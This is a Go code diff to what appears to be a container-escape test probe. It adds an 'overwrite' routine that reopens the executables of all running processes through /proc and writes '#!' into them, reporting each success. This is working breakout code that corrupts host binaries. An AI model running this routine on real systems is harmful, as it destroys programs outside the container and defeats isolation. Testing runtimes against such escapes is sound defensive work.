@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"io"
 	"os"
+	"path/filepath"
 	"strconv"
 	"strings"
 	"syscall"
@@ -14,7 +15,7 @@ import (
 // attack does what a container does that wants to get out; false if the verb is none
 // of these.
 func attack(verb string, args []string, told <-chan os.Signal) (bool, error) {
-	wanted := map[string]int{"link": 2, "directory": 1, "pipe": 1, "swap": 2, "copy": 3, "appear": 1, "node": 1, "call": 1, "mode": 1, "files": 0, "reach": 1}
+	wanted := map[string]int{"link": 2, "directory": 1, "pipe": 1, "swap": 2, "copy": 3, "appear": 1, "node": 1, "call": 1, "mode": 1, "files": 0, "reach": 1, "overwrite": 0}
 	n, ok := wanted[verb]
 	if !ok {
 		return false, nil
@@ -47,6 +48,8 @@ func attack(verb string, args []string, told <-chan os.Signal) (bool, error) {
 		fmt.Printf("mode.%s=%o %d:%d\n", args[0], stat.Mode, stat.Uid, stat.Gid)
 	case "files":
 		return true, files()
+	case "overwrite":
+		return true, overwrite(told)
 	case "reach":
 		reach(args[0])
 	case "call":
@@ -72,6 +75,41 @@ func reach(path string) {
 	read := can(os.O_RDONLY, func(f *os.File) error { _, err := f.Read(make([]byte, 1)); return err })
 	write := can(os.O_WRONLY, func(*os.File) error { return nil })
 	fmt.Printf("reach.%s=read %s write %s\n", path, read, write)
+}
+
+// overwrite tries to write to the programs of all processes that there are, until it is told to end.
+func overwrite(told <-chan os.Signal) error {
+	fmt.Println("tries")
+	own := "/proc/" + strconv.Itoa(os.Getpid()) + "/exe"
+	for len(told) == 0 {
+		programs, err := filepath.Glob("/proc/[0-9]*/exe")
+		if err != nil {
+			return err
+		}
+		for _, path := range programs {
+			if path == own {
+				continue
+			}
+			// A descriptor of a program that runs can be opened for writing when it has ended.
+			held, err := os.Open(path)
+			if err != nil {
+				continue
+			}
+			for range 100 {
+				f, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", held.Fd()), os.O_WRONLY, 0)
+				if err != nil {
+					continue
+				}
+				target, _ := os.Readlink(f.Name())
+				if n, err := f.WriteString("#!"); err == nil && n > 0 && !strings.HasSuffix(target, "/probe") {
+					fmt.Println("overwritten:", target)
+				}
+				_ = f.Close()
+			}
+			_ = held.Close()
+		}
+	}
+	return nil
 }
 
 // swap exchanges two names until it is told to end. It says so once it has begun.
